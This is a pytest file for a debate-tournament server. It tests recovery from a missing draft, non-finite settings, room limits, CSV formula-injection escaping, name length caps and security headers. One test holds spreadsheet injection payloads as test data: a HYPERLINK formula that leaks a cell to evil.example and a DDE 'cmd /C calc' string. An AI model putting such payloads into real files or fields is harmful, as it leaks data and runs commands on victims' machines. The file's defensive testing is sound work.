"""Live mode against a hostile or careless user (issue 27, items 1, 2, 5, 8 and 10), on SQLite and
PostgreSQL: a room closed without its draft does not freeze the tab room, a stored unreadable setting
does not brick the tournament, a refused room leaves nothing behind, the results CSV runs no formula,
and names are text of bounded length behind pages that send security headers (the Markdown report's
escaping is tested in tests/test_reading.py).

The backend is the scripted RecordingBackend (tests/graph_fakes.py): every judge votes affirmative with
p 0.7. Each room is a 4-stage online-1v1 match.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from types import SimpleNamespace

import httpx
import pytest
from graph_fakes import RecordingBackend
from live_fakes import TOKEN, online_match, stage_body, start_server

from adjudicator.live.tournament.results_csv import cell
from adjudicator.workflow.context import AdjudicationContext

ORG = {"Authorization": f"Bearer {TOKEN}"}
M = online_match("x", 4)
ROUND = {"round_id": "r1", "format": "online-1v1", "motion": M.motion, "affirmative_position": M.affirmative_position, "negative_position": M.negative_position}

pytestmark = pytest.mark.usefixtures("live_store")  # every test once on SQLite, once on PostgreSQL


def bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture
def desk(tmp_path):
    """A started server with tournament "cup" and its round "r1" (no rooms yet)."""
    servers = []

    def start(**kw):
        server = start_server(tmp_path / "state", AdjudicationContext.single(RecordingBackend()), **kw)
        servers.append(server)
        return server, httpx.Client(base_url=server.url, timeout=20, trust_env=False)

    server, http = start()
    assert http.post("/api/tournaments", json={"tournament_id": "cup", "name": "Cup"}, headers=ORG).status_code == 201
    assert http.post("/api/tournaments/cup/rounds", json=ROUND, headers=ORG).status_code == 201
    try:
        yield SimpleNamespace(server=server, http=http, start=start, state=tmp_path / "state")
    finally:
        http.close()
        for s in servers:
            s.stop()


def debate(http: httpx.Client, room: str, **body) -> str:
    """Create room ``room`` of cup/r1 and push its four stages with its chair token; returns the token."""
    r = http.post("/api/tournaments/cup/rounds/r1/rooms", json={"room_id": room, "teams": {"affirmative": "Aff", "negative": "Neg"}} | body, headers=ORG)
    assert r.status_code == 201, r.text
    token = r.json()["chair_token"]
    for i in range(4):
        assert http.post(f"/api/matches/cup.r1.{room}/stages", json=stage_body(M, i), headers=bearer(token)).status_code == 200
    return token


# ---------------------------------------------------------------------------------------------
# 1. A room closed without its draft


def test_a_room_closed_without_its_draft_is_confirmed_and_released_without_a_deadlock(desk):
    http = desk.http
    chair = debate(http, "a")
    # the close stores the verdict but not the draft, as when a process is killed between the two
    desk.server.app.state.store.on_closed = None
    assert http.post("/api/matches/cup.r1.a/close", headers=bearer(chair)).status_code == 200
    quick = httpx.Client(base_url=desk.server.url, timeout=10, trust_env=False)  # before: the confirm never answered
    try:
        r = quick.post("/api/tournaments/cup/rounds/r1/rooms/a/confirm", json={}, headers=bearer(chair))
        assert r.status_code == 200, r.text
        assert (r.json()["decision"]["state"], r.json()["decision"]["version"]) == ("confirmed", 2)
        assert quick.post("/api/tournaments/cup/rounds/r1/release", headers=ORG).status_code == 200
        for _ in range(45):  # the anonymous overview reads that once left even /api/health unanswered
            assert quick.get("/api/tournaments/cup/rounds/r1").status_code == 200
        assert quick.get("/api/health").json()["ok"] is True
        log = quick.get("/api/tournaments/cup/log", params={"round": "r1", "room": "a"}, headers=ORG).json()["log"]
        assert [e["kind"] for e in log][-3:] == ["draft_recorded", "confirmed", "released"]
    finally:
        quick.close()


def test_a_verdict_without_two_teams_answers_409_not_a_hang(desk):
    http = desk.http
    chair = debate(http, "a")
    live = desk.server.app.state.store
    live.on_closed = None
    assert http.post("/api/matches/cup.r1.a/close", headers=bearer(chair)).status_code == 200
    verdict = live.verdict("cup.r1.a")
    live.verdict = lambda match_id: verdict.model_copy(update={"winner": None})  # what a ranking (BP) verdict gives the desk
    quick = httpx.Client(base_url=desk.server.url, timeout=10, trust_env=False)
    try:
        r = quick.post("/api/tournaments/cup/rounds/r1/rooms/a/confirm", json={}, headers=bearer(chair))
        assert r.status_code == 409 and r.json()["detail"].startswith("room 'a': its verdict has no winner of two teams"), r.text
        assert quick.get("/api/tournaments/cup/rounds/r1").status_code == 200
    finally:
        quick.close()


def test_a_bp_round_is_refused_naming_the_format(desk):
    r = desk.http.post("/api/tournaments/cup/rounds", json=ROUND | {"round_id": "bp1", "format": "bp"}, headers=ORG)
    assert r.status_code == 422 and r.json()["field"] == "format"
    assert "bp ranks four houses; a tournament round is a debate of two teams (ccdb-4v4, ccdb-2v2, online-1v1)" in r.json()["detail"]


# ---------------------------------------------------------------------------------------------
# 2. A setting that is not a finite number


def _store_null_high(state, store_url: str | None) -> None:
    """Write ``speaker_scale.high = null`` into the stored tournament, as an older version stored Infinity."""
    if store_url is None:
        with sqlite3.connect(state / "tournaments.sqlite") as db:
            db.execute("UPDATE tournaments SET body = json_set(body, '$.speaker_scale.high', json('null')) WHERE tournament_id = 'cup'")
    else:
        import psycopg

        with psycopg.connect(store_url, autocommit=True) as db:
            db.execute("UPDATE tournaments SET body = jsonb_set(body, '{speaker_scale,high}', 'null') WHERE tournament_id = 'cup'")


def test_a_stored_unreadable_setting_is_recoverable_and_infinity_is_refused(desk, live_store):
    http = desk.http
    for raw in (b'{"speaker_scale": {"low": 1, "high": 1e309}}', b'{"speaker_scale": {"low": -Infinity, "high": 10}}', b'{"speaker_scale": {"low": 1, "high": NaN}}'):
        r = http.post("/api/tournaments/cup/settings", content=raw, headers=ORG | {"Content-Type": "application/json"})
        assert r.status_code == 400 and r.json()["field"].startswith("speaker_scale."), raw
    from adjudicator.live.tournament.model import SettingsBody

    with pytest.raises(ValueError, match="finite"):
        SettingsBody.model_validate({"speaker_scale": {"low": 1.0, "high": float("inf")}})

    chair = debate(http, "a")
    assert http.post("/api/matches/cup.r1.a/close", headers=bearer(chair)).status_code == 200
    _store_null_high(desk.state, live_store)
    t = http.get("/api/tournaments/cup")
    assert t.status_code == 200 and t.json()["repaired"] == ["speaker_scale"]  # before: 500 on every read, across restarts
    assert t.json()["tournament"]["speaker_scale"]["high"] == 10.0  # the default until the organiser sets it again
    assert http.get("/api/tournaments/cup/rounds/r1").status_code == 200
    assert http.get("/api/tournaments/cup/rounds/r1/results.csv", headers=ORG).status_code == 200
    assert http.post("/api/tournaments/cup/rounds/r1/rooms/a/confirm", json={}, headers=bearer(chair)).status_code == 200
    r = http.post("/api/tournaments/cup/settings", json={"speaker_scale": {"low": 70, "high": 80, "step": 1}}, headers=ORG)
    assert r.status_code == 200 and "repaired" not in r.json() and r.json()["tournament"]["speaker_scale"]["high"] == 80.0
    assert "repaired" not in http.get("/api/tournaments/cup").json()


# ---------------------------------------------------------------------------------------------
# 5. A room refused by --max-matches


def test_a_room_refused_by_max_matches_leaves_no_orphan_and_its_id_stays_free(desk, live_store):
    desk.server.stop()
    server, http = desk.start(max_matches=1)
    r = http.post("/api/tournaments/cup/rounds/r1/rooms", json={"room_id": "a", "teams": {"affirmative": "A", "negative": "N"}}, headers=ORG)
    assert r.status_code == 201
    r = http.post("/api/tournaments/cup/rounds/r1/rooms", json={"room_id": "b", "teams": {"affirmative": "A", "negative": "N"}}, headers=ORG)
    assert r.status_code == 409 and "--max-matches 1" in r.json()["detail"]
    overview = http.get("/api/tournaments/cup/rounds/r1")
    assert overview.status_code == 200 and [x["room_id"] for x in overview.json()["rooms"]] == ["a"]  # before: 404 from then on
    assert http.get("/api/tournaments/cup/rounds/r1/rooms/b").status_code == 404
    http.close()
    server.stop()
    server, http = desk.start(max_matches=2)
    r = http.post("/api/tournaments/cup/rounds/r1/rooms", json={"room_id": "b", "teams": {"affirmative": "A", "negative": "N"}}, headers=ORG)
    assert r.status_code == 201, r.text  # before: 409, the id was taken by the orphan
    http.close()


# ---------------------------------------------------------------------------------------------
# 8. Formula injection


def test_the_results_csv_runs_no_formula(desk):
    http = desk.http
    teams = {"affirmative": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "negative": "@SUM(1+1)"}
    chair = debate(http, "a", teams=teams, chair="+cmd|' /C calc'!A0",
                   debaters=[{"side": "affirmative", "position": 1, "name": "-2+3"}, {"side": "negative", "position": 1, "name": "\tTab"}])
    assert http.post("/api/matches/cup.r1.a/close", headers=bearer(chair)).status_code == 200
    assert http.post("/api/tournaments/cup/rounds/r1/rooms/a/confirm", json={}, headers=bearer(chair)).status_code == 200
    rows = list(csv.DictReader(io.StringIO(http.get("/api/tournaments/cup/rounds/r1/results.csv", headers=ORG).text)))
    assert [r["team"] for r in rows] == ["'" + teams["affirmative"], "'@SUM(1+1)"]  # before: the bare formula
    assert rows[0]["confirmed_by"] == "'+cmd|' /C calc'!A0"
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
    assert (rows[0]["p"], rows[0]["mean_stage_score"]) == ("0.7", "7")  # numbers as they are


def test_cell_neutralises_formula_starts_but_not_numbers():
    assert [cell(x) for x in ("=1+1", "+1", "-x", "@a", "\tx", "\rx", "-0.5", "-3", "7", "Ann", "")] == [
        "'=1+1", "'+1", "'-x", "'@a", "'\tx", "'\rx", "-0.5", "-3", "7", "Ann", ""]


# ---------------------------------------------------------------------------------------------
# 10. Names, headers, the Markdown report


def test_a_lone_surrogate_is_a_400_and_every_name_has_a_length_cap(desk):
    http = desk.http
    raw = b'{"room_id": "a", "teams": {"affirmative": "A", "negative": "N"}, "chair": "Ann \\ud800"}'
    r = http.post("/api/tournaments/cup/rounds/r1/rooms", content=raw, headers=ORG | {"Content-Type": "application/json"})
    assert r.status_code == 400 and r.json()["field"] == "chair" and "lone surrogate" in r.json()["detail"]  # before: 500
    raw = b'{"stage_id": "s1", "name": "x\\udc00", "type": "constructive", "sides": ["affirmative"], "utterances": []}'
    r = http.post("/api/matches/cup.r1.a/stages", content=raw, headers=ORG | {"Content-Type": "application/json"})
    assert r.status_code in (400, 404)  # no such room yet (404) or the surrogate (400): never a server error
    long = "x" * 201
    room = {"room_id": "a", "teams": {"affirmative": "A", "negative": "N"}}
    for body, field in ((room | {"chair": long}, "chair"), (room | {"name": long}, "name"), (room | {"teams": {"affirmative": long, "negative": "N"}}, "teams.affirmative"),
                        (room | {"debaters": [{"side": "affirmative", "position": 1, "name": long}]}, "debaters.0.name")):
        r = http.post("/api/tournaments/cup/rounds/r1/rooms", json=body, headers=ORG)
        assert r.status_code == 422 and r.json()["field"] == field, (field, r.text)
    for body, field in ((ROUND | {"round_id": "r2", "name": long}, "name"), (ROUND | {"round_id": "r2", "motion": "m" * 1001}, "motion"),
                        (ROUND | {"round_id": "r2", "affirmative_position": "p" * 2001}, "affirmative_position"), (ROUND | {"round_id": "r2", "info": "i" * 20_001}, "info")):
        r = http.post("/api/tournaments/cup/rounds", json=body, headers=ORG)
        assert r.status_code == 422 and r.json()["field"] == field, (field, r.text)
    r = http.post("/api/tournaments", json={"tournament_id": "t2", "name": long}, headers=ORG)
    assert r.status_code == 422 and r.json()["field"] == "name"
    assert http.get("/api/tournaments/cup/rounds/r1").json()["rooms"] == []


def test_pages_and_answers_carry_security_headers(desk):
    http = desk.http
    chair = debate(http, "a")
    assert http.post("/api/matches/cup.r1.a/close", headers=bearer(chair)).status_code == 200
    for path, headers in (("/board", {}), ("/board/cup.r1.a", {}), ("/board/round/cup/r1", {}), ("/static/board.js", {}), ("/api/health", {}),
                          ("/api/matches/cup.r1.a", {}), ("/api/matches/nope", {}), ("/api/matches/cup.r1.a/report.html", ORG)):
        r = http.get(path, headers=headers)
        assert r.headers.get("x-content-type-options") == "nosniff", path
        assert r.headers.get("referrer-policy") == "no-referrer", path
        assert r.headers.get("x-frame-options") == "DENY", path
        csp = r.headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in csp, path
    page = http.get("/board").headers["content-security-policy"]
    assert "script-src 'self'" in page and "default-src 'none'" in page and "unsafe-inline" not in page
    report = http.get("/api/matches/cup.r1.a/report.html", headers=ORG).headers["content-security-policy"]
    assert report.startswith("default-src 'none'; style-src 'unsafe-inline'")  # the report's own policy, framing refused too
